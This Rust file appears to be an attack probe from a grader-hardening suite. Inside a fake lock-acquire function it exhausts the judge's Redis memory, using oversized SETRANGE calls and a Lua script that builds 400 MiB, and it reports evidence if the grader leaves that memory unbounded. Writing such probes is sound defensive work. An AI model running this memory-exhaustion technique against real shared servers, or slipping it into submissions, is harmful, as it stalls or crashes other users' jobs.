//! Attack: memory taken in the grader's Redis, outside every limit of the
//! sandbox.
//!
//! The sandbox holds the runner to 512 MiB, but the Redis server the judge
//! started for this student is a process of the instructor's, which the
//! runner fills through commands the proxy lets through: `SETRANGE` of a key
//! of its own at a 400 MiB offset, three times (1.2 GiB kept), and a Lua
//! script that builds 400 strings of a MiB (400 MiB more, for the script's
//! length; in well under a second, so that no time limit of the call's ends
//! it first). Nothing but the machine bounds either, and a whole class grades
//! on one machine: a few such students and every grade stalls, or the kernel
//! kills what it picks.
//!
//! A sound grader bounds the memory of the servers it starts, well below the
//! sandbox's own: the commands fail, and the evidence below is not printed.
//! It is printed when the keys hold more than a server's `maxmemory` (64 MiB)
//! or the script built more than a server may allocate (256 MiB).

#[path = "atk_kit.rs"]
mod kit;

use std::sync::atomic::AtomicBool;
use std::time::Duration;

use redis::{ConnectionLike, RedisResult, Value};

static DONE: AtomicBool = AtomicBool::new(false);

const OFFSET: u64 = 400 * 1024 * 1024 - 1;

pub fn acquire<C: ConnectionLike>(
    con: &mut C,
    key: &str,
    _token: &str,
    _ttl: Duration,
) -> RedisResult<bool> {
    if kit::first(&DONE) {
        let mut kept = 0u64;
        for i in 0..3 {
            let grown: RedisResult<u64> =
                redis::cmd("SETRANGE").arg(format!("{key}:atk-{i}")).arg(OFFSET).arg("x").query(con);
            if let Ok(len) = grown {
                kept += len;
            }
        }
        let script: RedisResult<Value> = redis::cmd("EVAL")
            .arg("local s = string.rep('x', 1048576) local t = {} for i = 1, 400 do t[i] = s .. i end return #t * 1048576")
            .arg(0)
            .query(con);
        let built = match &script {
            Ok(Value::Int(n)) => *n as u64,
            _ => 0,
        };
        let said: String = format!("{script:?}").chars().take(120).collect();
        if kept > 64 << 20 || built > 256 << 20 {
            kit::evidence(
                "redis-memory",
                &format!(
                    "the grader's Redis took {} MiB with SETRANGE and {} MiB in a script ({said})",
                    kept >> 20,
                    built >> 20
                ),
            );
        }
        for i in 0..3 {
            let _: RedisResult<Value> = redis::cmd("DEL").arg(format!("{key}:atk-{i}")).query(con);
        }
    }
    todo!("send SET key token NX PX ttl and say whether Redis answered OK")
}
